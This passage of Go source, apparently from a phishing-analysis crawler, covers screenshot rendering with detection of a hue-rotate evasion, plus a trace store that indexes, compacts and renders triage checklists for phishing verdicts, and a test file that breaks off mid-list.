		img.FillRect(4, *y, shotW-4, *y+h, bg)
	} else if boxed {
		img.FillRect(4, *y, shotW-4, *y+h, imaging.RGB{R: 210, G: 210, B: 210})
	}
	ink := imaging.Black
	if c, ok := styleColor(pg, node, "color"); ok {
		ink = c
	}
	if len(text) > 40 {
		text = text[:40]
	}
	imaging.DrawText(img, 6, *y+3, strings.ToUpper(text), ink)
	*y += h + 2
}

func drawInput(img *imaging.Image, node *htmlx.Node, y *int) {
	img.FillRect(6, *y, shotW-20, *y+12, imaging.RGB{R: 235, G: 235, B: 235})
	ph := node.Attr("placeholder")
	if ph == "" {
		ph = node.Attr("name")
	}
	if len(ph) > 30 {
		ph = ph[:30]
	}
	imaging.DrawText(img, 8, *y+2, strings.ToUpper(ph), imaging.RGB{R: 120, G: 120, B: 120})
	*y += 16
}

func drawPlaceholder(img *imaging.Image, node *htmlx.Node, y *int) {
	img.FillRect(6, *y, 60, *y+20, imaging.RGB{R: 200, G: 205, B: 215})
	alt := node.Attr("alt")
	if len(alt) > 8 {
		alt = alt[:8]
	}
	imaging.DrawText(img, 8, *y+6, strings.ToUpper(alt), imaging.RGB{R: 90, G: 90, B: 90})
	*y += 24
}

// ownText returns the element's direct text content (not descendants').
func ownText(node *htmlx.Node) string {
	var sb strings.Builder
	for _, c := range node.Children {
		if c.Kind == htmlx.KindText {
			sb.WriteString(c.Text)
		}
	}
	return strings.TrimSpace(sb.String())
}

func firstText(node *htmlx.Node, fallback string) string {
	if t := strings.TrimSpace(node.InnerText()); t != "" {
		return t
	}
	if v := node.Attr("value"); v != "" {
		return v
	}
	return fallback
}

// styleColor reads a color property from the element's style attribute or
// its script-written style object.
func styleColor(pg *page, node *htmlx.Node, prop string) (imaging.RGB, bool) {
	for _, kv := range parseStyle(node.Attr("style")) {
		if kv[0] == prop || kv[0] == prop+"-color" {
			if c, ok := parseColor(kv[1]); ok {
				return c, true
			}
		}
	}
	if obj, ok := pg.domCache[node]; ok {
		if styleVal := obj.Get("style"); styleVal.Kind() == minijs.KindObject {
			for _, key := range []string{cssToCamel(prop), cssToCamel(prop + "-color")} {
				if v := styleVal.Object().Get(key); !v.IsUndefined() {
					if c, ok := parseColor(v.ToString()); ok {
						return c, true
					}
				}
			}
		}
	}
	return imaging.RGB{}, false
}

func styleHeight(pg *page, node *htmlx.Node, def int) int {
	for _, kv := range parseStyle(node.Attr("style")) {
		if kv[0] == "height" {
			if h, ok := parsePx(kv[1]); ok {
				return h
			}
		}
	}
	_ = pg
	return def
}

func parsePx(v string) (int, bool) {
	v = strings.TrimSuffix(strings.TrimSpace(v), "px")
	n, err := strconv.Atoi(v)
	if err != nil || n <= 0 || n > shotH {
		return 0, false
	}
	return n, true
}

// _namedColors is a small named-color table.
var _namedColors = map[string]imaging.RGB{
	"white": {R: 255, G: 255, B: 255}, "black": {},
	"red": {R: 220, G: 30, B: 30}, "blue": {R: 30, G: 60, B: 220},
	"green": {R: 30, G: 160, B: 60}, "gray": {R: 128, G: 128, B: 128},
	"grey": {R: 128, G: 128, B: 128}, "orange": {R: 240, G: 150, B: 30},
	"yellow": {R: 240, G: 220, B: 40}, "purple": {R: 130, G: 50, B: 180},
	"navy": {R: 20, G: 30, B: 90}, "teal": {R: 20, G: 140, B: 140},
	"silver": {R: 192, G: 192, B: 192},
}

func parseColor(v string) (imaging.RGB, bool) {
	v = strings.ToLower(strings.TrimSpace(v))
	// Strip url(...) backgrounds and keep any trailing color token.
	if strings.HasPrefix(v, "url(") {
		return imaging.RGB{R: 230, G: 230, B: 240}, true
	}
	if c, ok := _namedColors[v]; ok {
		return c, true
	}
	if strings.HasPrefix(v, "#") {
		hex := v[1:]
		if len(hex) == 3 {
			hex = string([]byte{hex[0], hex[0], hex[1], hex[1], hex[2], hex[2]})
		}
		if len(hex) != 6 {
			return imaging.RGB{}, false
		}
		n, err := strconv.ParseUint(hex, 16, 32)
		if err != nil {
			return imaging.RGB{}, false
		}
		return imaging.RGB{R: uint8(n >> 16), G: uint8(n >> 8), B: uint8(n)}, true
	}
	return imaging.RGB{}, false
}

// hueRotation inspects the documentElement's script-written style for the
// hue-rotate filter evasion.
func hueRotation(pg *page) (float64, bool) {
	html := pg.findOrCreate("html")
	candidates := []string{}
	if obj, ok := pg.domCache[html]; ok {
		if styleVal := obj.Get("style"); styleVal.Kind() == minijs.KindObject {
			candidates = append(candidates, styleVal.Object().Get("filter").ToString())
		}
	}
	for _, kv := range parseStyle(html.Attr("style")) {
		if kv[0] == "filter" {
			candidates = append(candidates, kv[1])
		}
	}
	body := pg.findOrCreate("body")
	if obj, ok := pg.domCache[body]; ok {
		if styleVal := obj.Get("style"); styleVal.Kind() == minijs.KindObject {
			candidates = append(candidates, styleVal.Object().Get("filter").ToString())
		}
	}
	for _, c := range candidates {
		c = strings.ToLower(strings.TrimSpace(c))
		if !strings.HasPrefix(c, "hue-rotate(") {
			continue
		}
		inner := strings.TrimSuffix(strings.TrimPrefix(c, "hue-rotate("), ")")
		inner = strings.TrimSuffix(inner, "deg")
		if deg, err := strconv.ParseFloat(strings.TrimSpace(inner), 64); err == nil {
			return deg, true
		}
	}
	return 0, false
}
