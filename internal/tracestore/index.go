package tracestore

import (
	"crawlerbox/internal/evstore"
)

// RecordRef is the JSON form of an evstore.Handle inside the index payload.
type RecordRef struct {
	Off int64  `json:"off"`
	Len uint32 `json:"len"`
}

// handle converts back to an evstore handle.
func (r RecordRef) handle() evstore.Handle { return evstore.Handle{Offset: r.Off, Len: r.Len} }

func refOf(h evstore.Handle) RecordRef { return RecordRef{Off: h.Offset, Len: h.Len} }

// TraceLoc locates one message's records inside the segment.
type TraceLoc struct {
	ID      int64     `json:"id"`
	Spans   RecordRef `json:"spans"`
	Verdict RecordRef `json:"verdict"`
}

// segIndex is the KindTraceIndex payload: record locations per trace plus
// an inverted index from "dimension=value" keys to sorted trace-ID posting
// lists. encoding/json emits map keys sorted and the builder appends IDs in
// ascending order, so the marshaled payload is canonical.
type segIndex struct {
	Version  int                `json:"version"`
	Traces   []TraceLoc         `json:"traces"`
	Postings map[string][]int64 `json:"postings,omitempty"`
}

func newSegIndex() *segIndex {
	return &segIndex{Version: Version, Postings: map[string][]int64{}}
}

// Indexed dimensions. Every key in a query term must be one of these (or
// the pseudo-keys id / limit handled by the query planner).
const (
	dimDomain      = "domain"
	dimOutcome     = "outcome"
	dimErrKind     = "errkind"
	dimStage       = "stage"
	dimStatus      = "status"
	dimCloak       = "cloak"
	dimAdjudicable = "adjudicable"
)

// add registers one verdict's records and posting entries. Callers add
// verdicts in ascending ID order, so posting lists stay sorted without a
// final sort pass.
func (x *segIndex) add(v *Verdict, spans, verdict evstore.Handle) {
	x.Traces = append(x.Traces, TraceLoc{ID: v.ID, Spans: refOf(spans), Verdict: refOf(verdict)})
	x.post(dimOutcome, v.Outcome, v.ID)
	if v.ErrorKind != "" {
		x.post(dimErrKind, v.ErrorKind, v.ID)
	}
	if v.Domain != "" {
		x.post(dimDomain, v.Domain, v.ID)
	}
	for _, h := range v.Hosts {
		x.post(dimDomain, h, v.ID)
	}
	for _, s := range v.Stages {
		x.post(dimStage, s, v.ID)
	}
	for _, s := range v.SpanStatuses {
		x.post(dimStatus, s, v.ID)
	}
	for _, c := range v.Cloaks {
		x.post(dimCloak, c, v.ID)
	}
	if v.Adjudicable {
		x.post(dimAdjudicable, "true", v.ID)
	} else {
		x.post(dimAdjudicable, "false", v.ID)
	}
}

// post appends id to the posting list for dim=value, deduplicating against
// the tail (IDs arrive in ascending order, so the last element is the only
// possible duplicate).
func (x *segIndex) post(dim, value string, id int64) {
	key := dim + "=" + value
	list := x.Postings[key]
	if n := len(list); n > 0 && list[n-1] == id {
		return
	}
	x.Postings[key] = append(list, id)
}

// intersect merges two sorted posting lists.
func intersect(a, b []int64) []int64 {
	out := make([]int64, 0, min(len(a), len(b)))
	i, j := 0, 0
	for i < len(a) && j < len(b) {
		switch {
		case a[i] < b[j]:
			i++
		case a[i] > b[j]:
			j++
		default:
			out = append(out, a[i])
			i++
			j++
		}
	}
	return out
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
