// Package tracestore is the persistent, queryable triage index over the
// observability layer's output: span trees, metrics snapshots, and verdict
// evidence, written during report.Analyze and served afterwards by
// cmd/obsreport — the TraceScope-style workflow where analysts adjudicate
// checklists over *recorded* evidence instead of re-crawling.
//
// A store is one evstore segment (the append-only CRC-checked record format
// of DESIGN.md §12) holding, per analyzed message, a KindSpanBatch record
// (the message's span tree as trace JSONL) and a KindVerdict record (the
// Verdict row: outcome, domains, cloak flags, and the per-visit adjudication
// facts), followed by one KindMetrics record (the run's metric snapshot) and
// a trailing KindTraceIndex record — an inverted index keyed by domain,
// outcome, error-kind, stage, span-status, and cloak flag that answers
// queries without scanning the segment.
//
// Determinism contract: a finalized segment's bytes depend only on the
// analyzed corpus — never on worker count or scheduling — because Finalize
// writes records in trace-ID order and every payload codec is canonical
// (JSON with fixed field order, sorted map keys, sorted posting lists).
// Compact folds one or more segments into a fresh segment under the same
// canonical form, so compacting a finalized segment reproduces it
// byte-for-byte, and query results are identical before and after
// compaction. The executable proof lives in the workers-1-vs-8 and
// build-vs-compact tests and the `make triagecheck` golden gate.
package tracestore

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"sync"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/evstore"
	"crawlerbox/internal/obs"
)

// Version is the index format version stamped into every segment's
// KindTraceIndex record; readers reject other versions.
const Version = 1

// OutcomeFailed is the verdict outcome recorded for a message whose
// analysis failed outright (no MessageAnalysis was produced). It matches
// the "(failed)" bucket of the obs outcome tally vocabulary, minus the
// parentheses so it stays query-friendly.
const OutcomeFailed = "failed"

// Verdict is one message's row in the triage index: the stored outcome,
// the evidence facts it was adjudicated from, and the trace-derived shape
// of its analysis. The JSON encoding of this struct is the on-disk
// KindVerdict payload, so field order and omitempty choices are part of
// the format.
type Verdict struct {
	// ID is the trace (message) ID, unique within a segment.
	ID int64 `json:"id"`
	// Domain is the message's primary domain: the landing host when
	// enrichment found one, else the first visited host.
	Domain string `json:"domain,omitempty"`
	// Hosts are all distinct visited hosts, sorted; every one is indexed
	// under the domain dimension.
	Hosts []string `json:"hosts,omitempty"`
	// Outcome is the stored disposition (Outcome.String(), or
	// OutcomeFailed for analyses that errored outright).
	Outcome string `json:"outcome"`
	// ErrorKind is the stored error class ("none" outside error-page).
	ErrorKind string `json:"error_kind,omitempty"`
	// SpearBrand is the matched brand for spear-phishing verdicts.
	SpearBrand string `json:"spear_brand,omitempty"`
	// Cloaks are the observed evasion techniques (census vocabulary).
	Cloaks []string `json:"cloaks,omitempty"`
	// Adjudicable reports whether the Classify stage ran: its verdict can
	// be re-derived from Facts alone. Parse-halted messages (no-resource,
	// download) and failed analyses carry their outcome as a fixed fact.
	Adjudicable bool `json:"adjudicable"`
	// Facts are the per-visit adjudication facts the Classify stage
	// distilled — the stored evidence Readjudicate feeds back through
	// crawlerbox.Adjudicate.
	Facts []crawlerbox.VisitFact `json:"facts,omitempty"`
	// Err is the analysis failure text for OutcomeFailed rows.
	Err string `json:"err,omitempty"`

	// Stages lists the distinct stage-span names in execution order
	// (filled from the trace at Finalize).
	Stages []string `json:"stages,omitempty"`
	// SpanStatuses lists the distinct span statuses observed, sorted.
	SpanStatuses []string `json:"span_statuses,omitempty"`
	// Spans is the trace's span count.
	Spans int `json:"spans,omitempty"`
	// DurationNS is the root span's virtual extent in nanoseconds.
	DurationNS int64 `json:"duration_ns,omitempty"`
}

// VerdictOf distills one completed analysis into its verdict row. A nil
// analysis (the corpus runner reported an error) records an OutcomeFailed
// row carrying the error text. Trace-derived fields (Stages, SpanStatuses,
// Spans, DurationNS) are filled later, at Finalize, when the span trees
// are joined in.
func VerdictOf(id int64, ma *crawlerbox.MessageAnalysis, analysisErr error) Verdict {
	v := Verdict{ID: id}
	if ma == nil {
		v.Outcome = OutcomeFailed
		if analysisErr != nil {
			v.Err = analysisErr.Error()
		}
		return v
	}
	v.Outcome = ma.Outcome.String()
	v.ErrorKind = ma.ErrorKind.String()
	if ma.SpearPhish {
		v.SpearBrand = ma.Brand
	}
	v.Cloaks = ma.Cloaks.Flags()
	if ma.Parse != nil && ma.Parse.NoisePadded {
		v.Cloaks = append(v.Cloaks, "noise-padding")
	}
	if ma.Parse != nil && ma.Parse.FaultyQR {
		v.Cloaks = append(v.Cloaks, "faulty-qr")
	}
	v.Adjudicable = ma.Facts != nil
	v.Facts = ma.Facts
	hosts := map[string]bool{}
	for i := range ma.Facts {
		if h := ma.Facts[i].Host; h != "" && !hosts[h] {
			hosts[h] = true
			v.Hosts = append(v.Hosts, h)
		}
	}
	if ma.Landing != nil && ma.Landing.Host != "" {
		if !hosts[ma.Landing.Host] {
			v.Hosts = append(v.Hosts, ma.Landing.Host)
		}
		v.Domain = ma.Landing.Host
	} else if len(v.Hosts) > 0 {
		v.Domain = v.Hosts[0]
	}
	sort.Strings(v.Hosts)
	return v
}

// Writer accumulates verdict rows during a corpus run and writes the
// canonical segment at Finalize. Add is safe for concurrent use from the
// corpus workers; rows are buffered in RAM (a few hundred bytes each — the
// bulky span trees stay in the observer until Finalize) and sorted by
// trace ID before anything touches disk, which is what makes the segment
// bytes independent of scheduling.
type Writer struct {
	mu        sync.Mutex
	ev        *evstore.Store
	verdicts  []Verdict // guarded by mu
	finalized bool      // guarded by mu
}

// Create creates (or truncates) a segment writer at path.
func Create(path string) (*Writer, error) {
	ev, err := evstore.Create(path)
	if err != nil {
		return nil, err
	}
	return &Writer{ev: ev}, nil
}

// Add buffers one verdict row for the segment.
func (w *Writer) Add(v Verdict) {
	if w == nil {
		return
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	w.verdicts = append(w.verdicts, v)
}

// Finalize joins the buffered verdicts with their span trees, writes every
// record in trace-ID order — span batch and verdict per message, then the
// metrics snapshot, then the inverted index — and closes the segment. The
// resulting bytes are canonical: independent of Add order, worker count,
// and scheduling.
func (w *Writer) Finalize(traces []*obs.Trace, metrics []obs.Point) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.finalized {
		return errors.New("tracestore: segment already finalized")
	}
	sort.SliceStable(w.verdicts, func(i, j int) bool { return w.verdicts[i].ID < w.verdicts[j].ID })
	for i := 1; i < len(w.verdicts); i++ {
		if w.verdicts[i].ID == w.verdicts[i-1].ID {
			w.ev.Close()
			return fmt.Errorf("tracestore: duplicate trace id %d", w.verdicts[i].ID)
		}
	}
	byID := make(map[int64]*obs.Trace, len(traces))
	for _, t := range traces {
		byID[t.ID()] = t
	}
	idx := newSegIndex()
	var spanBuf bytes.Buffer
	for i := range w.verdicts {
		v := &w.verdicts[i]
		spanBuf.Reset()
		if t := byID[v.ID]; t != nil {
			if err := obs.WriteJSONL(&spanBuf, []*obs.Trace{t}); err != nil {
				w.ev.Close()
				return err
			}
			annotateFromTrace(v, t)
		}
		if err := writeMessage(w.ev, idx, v, spanBuf.Bytes()); err != nil {
			w.ev.Close()
			return err
		}
	}
	if err := writeFooter(w.ev, idx, metrics); err != nil {
		w.ev.Close()
		return err
	}
	w.finalized = true
	return w.ev.Close()
}

// writeMessage appends one message's span batch and verdict records and
// registers them in the index. Shared by Finalize and Compact so the two
// paths cannot diverge in record layout.
func writeMessage(ev *evstore.Store, idx *segIndex, v *Verdict, spans []byte) error {
	sh, err := ev.Append(evstore.KindSpanBatch, spans)
	if err != nil {
		return err
	}
	payload, err := json.Marshal(v)
	if err != nil {
		return err
	}
	vh, err := ev.Append(evstore.KindVerdict, payload)
	if err != nil {
		return err
	}
	idx.add(v, sh, vh)
	return nil
}

// writeFooter appends the metrics snapshot and the trailing index record.
func writeFooter(ev *evstore.Store, idx *segIndex, metrics []obs.Point) error {
	mpayload, err := json.Marshal(metrics)
	if err != nil {
		return err
	}
	if _, err := ev.Append(evstore.KindMetrics, mpayload); err != nil {
		return err
	}
	ipayload, err := json.Marshal(idx)
	if err != nil {
		return err
	}
	_, err = ev.Append(evstore.KindTraceIndex, ipayload)
	return err
}

// Close aborts an unfinalized writer (idempotent; Finalize already closed
// the store on success, so a deferred Close after Finalize is a no-op).
func (w *Writer) Close() error {
	if w == nil {
		return nil
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.finalized {
		return nil
	}
	w.finalized = true
	return w.ev.Close()
}

// annotateFromTrace fills a verdict's trace-derived fields: distinct stage
// names in execution order, distinct span statuses sorted, span count, and
// the root span's virtual duration.
func annotateFromTrace(v *Verdict, t *obs.Trace) {
	spans := t.Spans()
	v.Spans = len(spans)
	seenStage := map[string]bool{}
	seenStatus := map[string]bool{}
	for _, s := range spans {
		if s.Kind == obs.SpanStage && !seenStage[s.Name] {
			seenStage[s.Name] = true
			v.Stages = append(v.Stages, s.Name)
		}
		if s.Status != "" && !seenStatus[s.Status] {
			seenStatus[s.Status] = true
			v.SpanStatuses = append(v.SpanStatuses, s.Status)
		}
		if s.Parent == 0 {
			v.DurationNS = s.Duration().Nanoseconds()
		}
	}
	sort.Strings(v.SpanStatuses)
}

// Readjudication is the result of re-deriving a verdict from its stored
// facts — no crawl, no live pipeline, just crawlerbox.Adjudicate over the
// evidence the Classify stage persisted.
type Readjudication struct {
	ID          int64  `json:"id"`
	Adjudicable bool   `json:"adjudicable"`
	// StoredOutcome / StoredErrorKind are what the live pipeline recorded.
	StoredOutcome   string `json:"stored_outcome"`
	StoredErrorKind string `json:"stored_error_kind,omitempty"`
	// Outcome / ErrorKind are the re-adjudicated disposition. For
	// non-adjudicable rows (parse-halted or failed analyses) the stored
	// outcome is a fixed fact and is carried through unchanged.
	Outcome   string `json:"outcome"`
	ErrorKind string `json:"error_kind,omitempty"`
	// Match reports stored == re-adjudicated; false flags drift between
	// the stored verdict and the current adjudication rules.
	Match bool `json:"match"`
}

// ReadjudicateVerdict re-derives a verdict row's outcome from its stored
// facts. It is pure: same row, same result, on any machine, with no
// network or pipeline state.
func ReadjudicateVerdict(v Verdict) Readjudication {
	r := Readjudication{
		ID:              v.ID,
		Adjudicable:     v.Adjudicable,
		StoredOutcome:   v.Outcome,
		StoredErrorKind: v.ErrorKind,
	}
	if !v.Adjudicable {
		r.Outcome = v.Outcome
		r.ErrorKind = v.ErrorKind
		r.Match = true
		return r
	}
	outcome, kind := crawlerbox.Adjudicate(v.Facts)
	r.Outcome = outcome.String()
	r.ErrorKind = kind.String()
	r.Match = r.Outcome == v.Outcome && r.ErrorKind == v.ErrorKind
	return r
}
