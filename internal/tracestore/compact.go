package tracestore

import (
	"fmt"
	"sort"

	"crawlerbox/internal/evstore"
	"crawlerbox/internal/obs"
)

// Compact folds one or more finalized segments into a fresh segment at
// dst. Per trace ID the last source wins (so compacting a base segment
// with a re-run overlay keeps the re-run's rows); span payloads are copied
// byte-for-byte, verdict rows re-encode through the same canonical codec
// Finalize uses, metrics snapshots fold through Registry.MergePoints, and
// the index is rebuilt from the surviving verdicts. Because Finalize and
// Compact share writeMessage/writeFooter, compacting a single finalized
// segment reproduces its bytes exactly — the determinism contract the
// build-vs-compact test pins.
func Compact(dst string, srcs ...string) error {
	if len(srcs) == 0 {
		return fmt.Errorf("tracestore: compact needs at least one source segment")
	}
	type entry struct {
		spans   []byte
		verdict Verdict
	}
	byID := map[int64]entry{}
	reg := obs.NewRegistry()
	for _, src := range srcs {
		st, err := Open(src)
		if err != nil {
			return err
		}
		for _, id := range st.IDs() {
			v, err := st.Verdict(id)
			if err != nil {
				st.Close()
				return err
			}
			spans, err := st.rawSpans(id)
			if err != nil {
				st.Close()
				return err
			}
			byID[id] = entry{spans: spans, verdict: v}
		}
		points, err := st.Metrics()
		if err != nil {
			st.Close()
			return err
		}
		reg.MergePoints(points)
		if err := st.Close(); err != nil {
			return err
		}
	}
	ids := make([]int64, 0, len(byID))
	for id := range byID {
		ids = append(ids, id)
	}
	sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })

	ev, err := evstore.Create(dst)
	if err != nil {
		return err
	}
	idx := newSegIndex()
	for _, id := range ids {
		e := byID[id]
		if err := writeMessage(ev, idx, &e.verdict, e.spans); err != nil {
			ev.Close()
			return err
		}
	}
	if err := writeFooter(ev, idx, reg.Snapshot()); err != nil {
		ev.Close()
		return err
	}
	return ev.Close()
}
