package tracestore

import (
	"fmt"
	"sort"
	"strings"
	"text/tabwriter"
	"time"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/obs"
)

// Checklist renders one message's triage checklist: the stored verdict,
// the stage spans with statuses and virtual timings, the per-visit
// evidence facts, and the adjudication rules with the branch each fact
// activated — ending with the re-adjudicated outcome so an analyst sees
// at a glance whether the stored verdict still follows from the stored
// evidence. Output is deterministic (virtual timings, sorted lists).
func (s *Store) Checklist(id int64) (string, error) {
	v, err := s.Verdict(id)
	if err != nil {
		return "", err
	}
	t, err := s.Trace(id)
	if err != nil {
		return "", err
	}
	return RenderChecklist(v, t), nil
}

// RenderChecklist renders the checklist for a verdict row and its
// (possibly nil) trace.
func RenderChecklist(v Verdict, t *obs.Trace) string {
	var b strings.Builder
	fmt.Fprintf(&b, "checklist — message %d\n", v.ID)
	fmt.Fprintf(&b, "  stored verdict : %s\n", v.Outcome)
	if v.ErrorKind != "" && v.ErrorKind != "none" {
		fmt.Fprintf(&b, "  error kind     : %s\n", v.ErrorKind)
	}
	if v.Domain != "" {
		fmt.Fprintf(&b, "  domain         : %s\n", v.Domain)
	}
	if len(v.Hosts) > 1 {
		fmt.Fprintf(&b, "  hosts          : %s\n", strings.Join(v.Hosts, ", "))
	}
	if len(v.Cloaks) > 0 {
		fmt.Fprintf(&b, "  cloaks         : %s\n", strings.Join(v.Cloaks, ", "))
	}
	if v.SpearBrand != "" {
		fmt.Fprintf(&b, "  spear brand    : %s\n", v.SpearBrand)
	}
	if v.Err != "" {
		fmt.Fprintf(&b, "  analysis error : %s\n", v.Err)
	}
	if v.Spans > 0 {
		fmt.Fprintf(&b, "  trace          : %d spans over %s\n",
			v.Spans, time.Duration(v.DurationNS))
	}
	renderStageEvidence(&b, t)
	renderVisitEvidence(&b, v.Facts)
	renderAdjudication(&b, v)
	return b.String()
}

// renderStageEvidence lists the trace's stage spans in execution order
// with status checkboxes and virtual durations.
func renderStageEvidence(b *strings.Builder, t *obs.Trace) {
	if t == nil {
		return
	}
	var rows []string
	for _, s := range t.Spans() {
		if s.Kind != obs.SpanStage {
			continue
		}
		mark := "[x]"
		if s.Status != obs.StatusOK {
			mark = "[!]"
		}
		rows = append(rows, fmt.Sprintf("    %s %s\t%s\t%s", mark, s.Name, s.Status, s.Duration()))
	}
	if len(rows) == 0 {
		return
	}
	fmt.Fprintf(b, "  stage evidence:\n")
	tw := tabwriter.NewWriter(b, 2, 0, 2, ' ', 0)
	for _, r := range rows {
		fmt.Fprintln(tw, r)
	}
	tw.Flush()
}

// renderVisitEvidence lists the stored per-visit facts.
func renderVisitEvidence(b *strings.Builder, facts []crawlerbox.VisitFact) {
	if len(facts) == 0 {
		return
	}
	fmt.Fprintf(b, "  visit evidence:\n")
	tw := tabwriter.NewWriter(b, 2, 0, 2, ' ', 0)
	for i := range facts {
		f := &facts[i]
		status := "-"
		if f.Status != 0 {
			status = fmt.Sprintf("%d", f.Status)
		}
		flags := make([]string, 0, 2)
		if f.HasDOM {
			flags = append(flags, "dom")
		}
		if f.Degraded {
			flags = append(flags, "degraded")
		}
		flagStr := "-"
		if len(flags) > 0 {
			flagStr = strings.Join(flags, ",")
		}
		fmt.Fprintf(tw, "    [%d] %s\t%s\t%s\t%s\n", i+1, f.Class, status, flagStr, f.URL)
	}
	tw.Flush()
}

// adjudicationRule is one row of the rule checklist: the observation, the
// outcome it implies, and whether the stored facts activate it.
type adjudicationRule struct {
	observed bool
	label    string
	implies  string
}

// renderAdjudication renders the rule checklist in priority order and the
// re-adjudicated outcome.
func renderAdjudication(b *strings.Builder, v Verdict) {
	if !v.Adjudicable {
		fmt.Fprintf(b, "  adjudication   : outcome fixed before classification; stored verdict stands\n")
		return
	}
	var sawPhish, sawInteraction, sawBenign, sawNetError, sawContentError, sawDegraded, hasEvidence bool
	for i := range v.Facts {
		f := &v.Facts[i]
		sawDegraded = sawDegraded || f.Degraded
		hasEvidence = hasEvidence || f.HasDOM
		switch f.Class {
		case crawlerbox.FactNetError:
			sawNetError = true
		case crawlerbox.FactContentError:
			sawContentError = true
		case crawlerbox.FactPhishForm:
			sawPhish = true
		case crawlerbox.FactInteraction:
			sawInteraction = true
		default:
			sawBenign = true
		}
	}
	sawError := sawNetError || sawContentError
	rules := []adjudicationRule{
		{sawPhish, "credential form observed", "active-phishing"},
		{sawInteraction, "interaction gate observed", "interaction-required"},
		{sawDegraded && hasEvidence, "degraded visit with retained DOM", "partial-evidence"},
		{sawError && !sawBenign, "errors without a benign render", "error-page"},
		{sawBenign, "benign content only", "cloaked-benign"},
	}
	fmt.Fprintf(b, "  adjudication (stored facts, no crawl; first checked rule wins):\n")
	tw := tabwriter.NewWriter(b, 2, 0, 2, ' ', 0)
	for _, r := range rules {
		mark := "[ ]"
		if r.observed {
			mark = "[x]"
		}
		fmt.Fprintf(tw, "    %s %s\t-> %s\n", mark, r.label, r.implies)
	}
	tw.Flush()
	r := ReadjudicateVerdict(v)
	verdictStr := r.Outcome
	if r.ErrorKind != "" && r.ErrorKind != "none" {
		verdictStr += " (" + r.ErrorKind + ")"
	}
	agreement := "MATCHES stored verdict"
	if !r.Match {
		agreement = fmt.Sprintf("DRIFTED from stored verdict %s", r.StoredOutcome)
	}
	fmt.Fprintf(b, "    re-adjudicated: %s — %s\n", verdictStr, agreement)
}

// RenderVerdicts renders query results as the triage table obsreport
// prints: one row per verdict, ascending trace ID.
func RenderVerdicts(q Query, verdicts []Verdict) string {
	var b strings.Builder
	fmt.Fprintf(&b, "query: %s\n", q)
	fmt.Fprintf(&b, "%d match(es)\n", len(verdicts))
	if len(verdicts) == 0 {
		return b.String()
	}
	tw := tabwriter.NewWriter(&b, 2, 0, 2, ' ', 0)
	fmt.Fprintf(tw, "  id\toutcome\terr-kind\tdomain\tadjudicable\tcloaks\n")
	for i := range verdicts {
		v := &verdicts[i]
		fmt.Fprintf(tw, "  %d\t%s\t%s\t%s\t%s\t%s\n",
			v.ID, v.Outcome, orDash(v.ErrorKind), orDash(v.Domain),
			yesNo(v.Adjudicable), orDash(strings.Join(v.Cloaks, ",")))
	}
	tw.Flush()
	return b.String()
}

// RenderStats renders segment stats for the CLI and the / endpoint.
func RenderStats(st Stats) string {
	var b strings.Builder
	fmt.Fprintf(&b, "traces: %d (%d adjudicable)\n", st.Traces, st.Adjudicable)
	fmt.Fprintf(&b, "domains indexed: %d, index entries: %d, segment bytes: %d\n",
		st.Domains, st.IndexEntries, st.Bytes)
	outcomes := make([]string, 0, len(st.Outcomes))
	for o := range st.Outcomes {
		outcomes = append(outcomes, o)
	}
	sort.Strings(outcomes)
	for _, o := range outcomes {
		fmt.Fprintf(&b, "  %-22s %d\n", o, st.Outcomes[o])
	}
	return b.String()
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func yesNo(b bool) string {
	if b {
		return "yes"
	}
	return "no"
}
