package tracestore

import (
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/evstore"
	"crawlerbox/internal/obs"
)

// writeSegment finalizes a synthetic segment with the given verdicts and
// no traces or metrics.
func writeSegment(t *testing.T, path string, verdicts ...Verdict) {
	t.Helper()
	w, err := Create(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range verdicts {
		w.Add(v)
	}
	if err := w.Finalize(nil, nil); err != nil {
		t.Fatal(err)
	}
}

func TestQueryRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "seg.tstore")
	writeSegment(t, path,
		Verdict{ID: 1, Outcome: "error-page", ErrorKind: "network", Domain: "dead.example", Adjudicable: true,
			Facts: []crawlerbox.VisitFact{{URL: "https://dead.example/x", Host: "dead.example", Class: crawlerbox.FactNetError}}},
		Verdict{ID: 2, Outcome: "active-phishing", ErrorKind: "none", Domain: "login.example",
			Hosts: []string{"cdn.example", "login.example"}, Cloaks: []string{"turnstile"}, Adjudicable: true,
			Facts: []crawlerbox.VisitFact{{URL: "https://login.example/p", Host: "login.example", Class: crawlerbox.FactPhishForm, Status: 200, HasDOM: true}}},
		Verdict{ID: 3, Outcome: "no-web-resource", ErrorKind: "none"},
	)
	st, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()

	for _, tc := range []struct {
		query string
		want  []int64
	}{
		{"", []int64{1, 2, 3}},
		{"outcome=active-phishing", []int64{2}},
		{"domain=cdn.example", []int64{2}},
		{"domain=dead.example errkind=network", []int64{1}},
		{"cloak=turnstile", []int64{2}},
		{"adjudicable=false", []int64{3}},
		{"id=3", []int64{3}},
		{"limit=2", []int64{1, 2}},
		{"outcome=active-phishing domain=dead.example", nil},
		{"domain=nowhere.example", nil},
	} {
		q, err := ParseQuery(tc.query)
		if err != nil {
			t.Fatalf("parse %q: %v", tc.query, err)
		}
		verdicts, err := st.Query(q)
		if err != nil {
			t.Fatalf("query %q: %v", tc.query, err)
		}
		var got []int64
		for _, v := range verdicts {
			got = append(got, v.ID)
		}
		if len(got) != len(tc.want) {
			t.Errorf("query %q: got ids %v, want %v", tc.query, got, tc.want)
			continue
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Errorf("query %q: got ids %v, want %v", tc.query, got, tc.want)
				break
			}
		}
	}
}

func TestParseQueryErrors(t *testing.T) {
	for _, bad := range []string{
		"outcome",            // no =
		"=value",             // empty key
		"outcome=",           // empty value
		"color=red",          // unknown key
		"id=zero",            // non-numeric id
